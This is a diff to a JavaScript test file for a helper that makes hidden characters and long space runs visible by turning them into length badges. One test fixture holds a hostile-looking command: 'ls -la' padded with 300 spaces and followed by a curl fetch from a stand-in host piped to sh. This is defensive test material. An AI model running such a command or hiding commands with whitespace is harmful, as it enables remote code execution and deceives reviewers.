@@ -32,13 +32,14 @@ test('no raw hidden character survives any mix', () => {
   assert.doesNotMatch(visibleString(all), HIDDEN);
 });
 
-test('space runs are kept exactly and marked with their length', () => {
+test('a long space run becomes one badge with its length; indentation stays', () => {
   const command = `ls -la${' '.repeat(300)}; curl http://x.invalid/a|sh`;
   const pieces = visiblePieces(command);
   assert.deepEqual(pieces.map((p) => p.kind), ['text', 'spaces', 'text']);
-  assert.deepEqual(pieces[1], { kind: 'spaces', text: ' '.repeat(300), title: '300 spaces' });
-  assert.equal(pieces.map((p) => p.text).join(''), command);
-  assert.deepEqual(visiblePieces('a   b').map((p) => p.kind), ['text']);
+  assert.deepEqual(pieces[1], { kind: 'spaces', text: '⟨300 spaces⟩', title: '300 spaces in a row', raw: ' '.repeat(300) });
+  assert.equal(visibleString(command), 'ls -la⟨300 spaces⟩; curl http://x.invalid/a|sh');
+  const indented = `if x:\n${' '.repeat(15)}y`;
+  assert.deepEqual(visiblePieces(indented), [{ kind: 'text', text: indented }]);
 });
 
 test('lineCount counts lines', () => {
